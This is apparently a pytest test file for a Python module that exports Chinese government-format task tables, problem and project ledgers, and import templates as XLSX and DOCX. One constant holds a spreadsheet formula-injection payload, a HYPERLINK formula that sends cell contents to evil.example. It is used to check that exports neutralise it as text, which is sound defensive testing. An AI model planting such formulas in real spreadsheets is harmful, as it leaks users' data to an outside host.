"""The delivery workbooks and the 任务分工方案 DOCX (zhizao/outputs/delivery_exports.py): the offices' layout
(附件 line, title, unit row, header, 序号, 说明 with the source), the synthetic label, hostile text as text,
and the blank import template that the import reads back. Statuses are hand-built frames in the
contract's columns (the analytics are tested on their own)."""
from __future__ import annotations

import importlib
import io
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from docx import Document
from docx.oxml.ns import qn

from zhizao.ingest.delivery_frames import (COLUMN_WORDS, FRAME_NAMES, FRAMES, DeliveryData, empty_frame,
                                           plan_departments, plan_work_items)
from zhizao.outputs import delivery_exports as dx
from zhizao.outputs.reports.fonts import GW_HEI, GW_TITLE
from zhizao.plan.load import load_plan

FICTIONAL = Path(__file__).resolve().parents[1] / "assets" / "fictional-plan.yaml"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture(scope="module")
def embedded():
    return load_plan()


@pytest.fixture(scope="module")
def fictional():
    return load_plan(FICTIONAL)


def book(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def texts(ws) -> list[str]:
    return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]


def task_data(plan, *, synthetic: bool = False) -> DeliveryData:
    """The plan's own 任务分工 with two progress reports on the first item (the later one counts) and a
    hostile title on the second."""
    work, miles = plan_work_items(plan)
    if len(work) > 1:
        work.loc[1, "title"] = HOSTILE
    first = work["item_id"].iloc[0] if len(work) else "x"
    reports = pd.DataFrame({"report_id": ["R1", "R2"], "item_id": [first, first], "date": ["2024-03-31", "2024-06-30"],
                            "completion": [20.0, 45.0], "text": ["调研完成", "方案已印发"], "attachments": ["", ""],
                            "reporter": ["张三", "张三"]})
    return DeliveryData(empty_frame("projects"), empty_frame("project_progress"), empty_frame("problems"), work, miles,
                        reports, plan_departments(plan),
                        synthetic_frames=frozenset({"progress_reports"}) if synthetic else frozenset(),
                        source="合成数据 zhizao synth delivery, seed 0" if synthetic else "任务进展.xlsx",
                        as_of="2024-09-30")


def item_status(data: DeliveryData) -> pd.DataFrame:
    """What tasks.item_status returns (the columns the export reads)."""
    w = data.work_items
    done = [45.0 if i == 0 else 0.0 for i in range(len(w))]
    return pd.DataFrame({"item_id": w["item_id"], "task": w["task"], "completion": done,
                         "status": ["behind" if i == 0 else "not_started" for i in range(len(w))],
                         "status_zh": ["滞后" if i == 0 else "未开始" for i in range(len(w))],
                         "status_en": ["behind" if i == 0 else "not started" for i in range(len(w))]})


# --- 任务分工方案 -------------------------------------------------------------------------------------

@pytest.mark.parametrize("synthetic", [False, True])
def test_task_table_workbook_has_the_government_layout(embedded, synthetic):
    data = task_data(embedded, synthetic=synthetic)
    ws = book(dx.task_table_workbook(embedded, data, item_status(data))).worksheets[0]
    assert ws["A1"].value == "附件"
    assert ws["A2"].value == f"《{embedded.plan.title}》重点任务分工方案"
    assert [c.value for c in ws[4]] == ["序号", "重点任务", "工作任务", "牵头单位", "配合单位", "完成时限", "进展情况",
                                        "完成进度（%）", "状态"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=5, max_row=4 + len(embedded.work_items))]
    assert [r[0] for r in rows] == list(range(1, len(embedded.work_items) + 1))
    first = rows[0]
    assert first[1] == f"{embedded.tasks[0].title}（{embedded.tasks[0].section}）"
    assert first[3] == "市级有关部门"  # the unit's name, not its id
    assert first[6] == "2024-06-30：方案已印发" and first[7] == 45.0 and first[8] == "滞后"
    assert rows[1][6] == "暂无进展报告"
    assert rows[1][2] == "'" + HOSTILE  # text, never a formula
    note = ws.cell(row=5 + len(rows), column=1).value
    assert note.startswith("说明：1.") and "规划原文" in note
    assert ("合成数据（演示用）" in ws["A3"].value) is synthetic
    assert ("合成数据（演示用）" in note) is synthetic
    assert "2024-09-30" in ws["A3"].value
    assert ws.page_setup.orientation == "landscape"


def test_task_table_workbook_in_english(embedded):
    data = task_data(embedded, synthetic=True)
    ws = book(dx.task_table_workbook(embedded, data, item_status(data), lang="en")).worksheets[0]
    assert ws["A1"].value == "Annex" and ws.title == "task decomposition"
    assert [c.value for c in ws[4]][:3] == ["No.", "Plan task", "Work item"]
    assert ws["D5"].value == "relevant municipal departments"  # the unit's English name
    assert ws.cell(row=5, column=9).value == "behind"
    assert "SYNTHETIC" in ws["A3"].value


def test_task_table_merges_each_task_over_its_items(embedded):
    data = task_data(embedded)
    extra = data.work_items.iloc[[0]].assign(item_id="zz_extra", title="第二项")
    data = replace(data, work_items=pd.concat([data.work_items, extra], ignore_index=True))
    ws = book(dx.task_table_workbook(embedded, data, item_status(data))).worksheets[0]
    assert "B5:B6" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["C6"].value == "第二项"


@pytest.mark.parametrize("which", ["second", "fictional"])
def test_a_plan_without_tasks_says_so(which, fictional):
    plan = load_plan("chongqing-manufacturing-2023-2027") if which == "second" else fictional
    data = task_data(plan)
    ws = book(dx.task_table_workbook(plan, data, item_status(data))).worksheets[0]
    assert ws.max_row == 5 and "本规划未列任务分工" in ws["A5"].value
    doc = Document(io.BytesIO(dx.task_table_docx(plan, data, item_status(data), lang="en")))
    assert any("this plan has no task decomposition" in p.text for p in doc.paragraphs)
    assert len(doc.tables[0].rows) == 1


def _faces(paragraph) -> set[str]:
    return {r._r.rPr.find(qn("w:rFonts")).get(qn("w:eastAsia")) for r in paragraph.runs}


def test_task_table_docx_is_landscape_a4_in_the_official_faces(embedded):
    data = task_data(embedded, synthetic=True)
    doc = Document(io.BytesIO(dx.task_table_docx(embedded, data, item_status(data))))
    sec = doc.sections[0]
    assert sec.page_width > sec.page_height and round(sec.page_width.cm, 1) == 29.7
    paras = doc.paragraphs
    assert paras[0].text == "附件" and _faces(paras[0]) == {GW_HEI}
    assert paras[1].text.endswith("重点任务分工方案") and _faces(paras[1]) == {GW_TITLE}
    assert "合成数据（演示用）" in paras[2].text
    table = doc.tables[0]
    assert [c.text for c in table.rows[0].cells][:3] == ["序号", "重点任务", "工作任务"]
    assert len(table.rows) == 1 + len(embedded.work_items)
    assert table.rows[1].cells[6].text == "2024-06-30：方案已印发"
    assert table.rows[2].cells[2].text == HOSTILE  # a DOCX runs no formulas: the title as written
    assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None  # the header repeats on each page
    assert any("合成数据（演示用）" in p.text for p in paras[3:])


# --- 三服务问题台账 and 重点项目台账 ----------------------------------------------------------------------

def problems(plan) -> tuple[DeliveryData, pd.DataFrame]:
    d = plan.regions.districts[0].code
    frame = pd.DataFrame({
        "problem_id": ["Q1", "Q2", "Q3"], "enterprise_id": ["", "", ""], "enterprise_name": ["甲公司", HOSTILE, "丙公司"],
        "district": [d, d, d], "category": ["land", "financing", "labour"], "description": ["用地", "融资", "用工"],
        "department": ["economy_it", "economy_it;" + d, "economy_it"], "raised": ["2024-01-05", "2024-02-01", "2024-03-01"],
        "deadline": ["2024-02-05", "2024-03-01", "2024-12-31"], "status": ["resolved", "open", "in_progress"],
        "resolved": ["2024-02-01", "", ""], "resolution": ["已协调", "", ""]})
    status = frame.assign(overdue=[False, True, False], days_overdue=[0, 213, 0],
                          reasons_zh=["", "超过办理期限213天", ""], reasons_en=["", "213 days past the deadline", ""])
    data = DeliveryData(empty_frame("projects"), empty_frame("project_progress"), frame, empty_frame("work_items"),
                        empty_frame("milestones"), empty_frame("progress_reports"), plan_departments(plan),
                        synthetic_frames=frozenset({"problems"}), source="合成数据 test", as_of="2024-09-30")
    return data, status


def test_service_ledger_lists_overdue_first_with_words(embedded):
    data, status = problems(embedded)
    ws = book(dx.service_ledger_workbook(embedded, data, status)).worksheets[0]
    assert ws["A1"].value.endswith("“三服务”企业问题办理台账") and "合成数据（演示用）" in ws["A2"].value
    heads = [c.value for c in ws[3]]
    assert heads[:3] == ["序号", "问题编号", "企业名称"] and "超期天数" in heads
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4, max_row=6)]
    assert [r[1] for r in rows] == ["Q2", "Q3", "Q1"]  # open and overdue first, resolved last
    top = dict(zip(heads, rows[0]))
    assert top["企业名称"] == "'" + HOSTILE and top["问题类别"] == "融资" and top["办理状态"] == "待办"
    assert top["责任单位"] == "市经济信息委、" + embedded.regions.districts[0].name
    assert rows[0][heads.index("超期天数")] == 213 and rows[1][heads.index("超期天数")] is None
    assert "合成数据（演示用）" in ws.cell(row=7, column=1).value


def test_project_ledger_shows_stages_and_investment(embedded):
    d = embedded.regions.districts[0].code
    projects = empty_frame("projects")
    status = pd.DataFrame({"project_id": ["P1"], "name": ["新能源汽车零部件项目"],
                           "cluster": [embedded.clusters[0].id], "district": [d], "park": [""], "investor": [HOSTILE],
                           "planned_investment": [50000.0], "cumulative_investment": [12000.0],
                           "investment_share": [24.0], "planned_signed": ["2023-01-10"], "signed": ["2023-01-10"],
                           "planned_started": ["2023-06-30"], "started": ["2023-08-01"],
                           "planned_production": ["2024-06-30"], "production": [""],
                           "planned_full_production": ["2025-06-30"], "full_production": [""],
                           "stage": ["started"], "status": ["active"],
                           "reasons_zh": ["计划投产日期已过92天"], "reasons_en": ["92 days past planned production"]})
    data = DeliveryData(projects, empty_frame("project_progress"), empty_frame("problems"), empty_frame("work_items"),
                        empty_frame("milestones"), empty_frame("progress_reports"), empty_frame("departments"),
                        source="项目台账.xlsx", as_of="2024-09-30")
    ws = book(dx.project_ledger_workbook(embedded, data, status)).worksheets[0]
    heads = [c.value for c in ws[3]]
    assert "计划总投资（万元）" in heads and "计划开工日期" in heads and "实际开工日期" in heads
    row = {h: c.value for h, c in zip(heads, ws[4])}
    assert row["所属产业集群"] == embedded.clusters[0].name and row["投资主体"] == "'" + HOSTILE
    assert row["计划总投资（万元）"] == 50000.0 and row["当前阶段"] == "开工" and row["项目状态"] == "推进中"
    assert row["预警"] == "计划投产日期已过92天"
    assert "合成数据" not in ws["A2"].value


# --- the import template --------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["zh", "en"])
def test_template_has_seven_sheets_headers_and_an_example(embedded, lang):
    wb = book(dx.template_workbook(embedded, lang))
    i = 1 if lang == "en" else 0
    assert wb.sheetnames == [FRAME_NAMES[f][i] for f in FRAMES] + [("说明", "notes")[i]]
    for frame, columns in FRAMES.items():
        ws = wb[FRAME_NAMES[frame][i]]
        heads = [c.value for c in ws[1]]
        assert [h.split("（")[0].split(" (")[0] for h in heads] == [COLUMN_WORDS[frame][c][i] for c in columns]
        assert ws.max_row == 2, frame
    assert ("计划总投资（万元）" if lang == "zh" else "planned investment (万元)") in [c.value for c in wb[FRAME_NAMES["projects"][i]][1]]
    notes = texts(wb[("说明", "notes")[i]])
    assert embedded.tasks[0].id in notes and embedded.regions.districts[0].code in notes


def test_template_for_a_plan_without_tasks_has_no_task_examples(fictional):
    wb = book(dx.template_workbook(fictional))
    for frame in ("work_items", "milestones", "progress_reports"):
        assert wb[FRAME_NAMES[frame][0]].max_row == 1
    assert wb[FRAME_NAMES["projects"][0]].max_row == 2
    assert any("本规划未列重点任务" in t for t in texts(wb["说明"]))


def _reader():
    try:
        return importlib.import_module("zhizao.ingest.delivery").read_delivery_files
    except ModuleNotFoundError:
        pytest.skip("zhizao.ingest.delivery (part ingest) is not in this branch yet: unskips after the merge")


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("which", ["embedded", "second"])
def test_template_imports_cleanly(which, lang, tmp_path):
    read_delivery_files = _reader()
    plan = load_plan() if which == "embedded" else load_plan("chongqing-manufacturing-2023-2027")
    path = tmp_path / f"template-{lang}.xlsx"
    path.write_bytes(dx.template_workbook(plan, lang))
    frames, problems_, _sha = read_delivery_files([path], plan)
    assert problems_ == []
    expected = set(dx.example_rows(plan, lang))
    assert {f for f, v in frames.items() if len(v)} == expected
    assert all(len(frames[f]) == 1 for f in expected)


def test_every_body_cell_of_a_long_table_is_styled_by_its_kind():
    """The rows' style is set once per kind and copied (a hundred thousand rows): every row has it, the
    header is left alone, numbers keep their column's format, text is left-aligned, blanks are not."""
    from zhizao.outputs.enterprise_exports import _styles, body_rows

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "名称", "金额", "备注"])
    rows = [[f"Q{i}", "企业", 1234.5 + i, None if i % 2 else "说明"] for i in range(300)]
    body_rows(ws, rows, 4, _styles(), {3: "#,##0.00"})
    ws = book(dx._save(wb)).worksheets[0]
    assert ws["A1"].font.name != "宋体"
    for r in ws.iter_rows(min_row=2, max_row=301):
        assert all(c.font.name == "宋体" and c.border.left.style == "thin" for c in r)
        assert r[0].alignment.horizontal == "left" and r[2].number_format == "#,##0.00"
        assert r[2].alignment.horizontal is None
        assert r[3].alignment.horizontal == ("left" if r[3].value else None)


@pytest.mark.parametrize("value,number", [(3, 3.0), (2.5, 2.5), ("7", 7.0), (" 8.5 ", 8.5), ("", None), (None, None),
                                          (float("nan"), None), (pd.NA, None), ("abc", None), (True, None)])
def test_a_cell_number_is_a_float_or_nothing(value, number):
    assert dx._num(value) == number
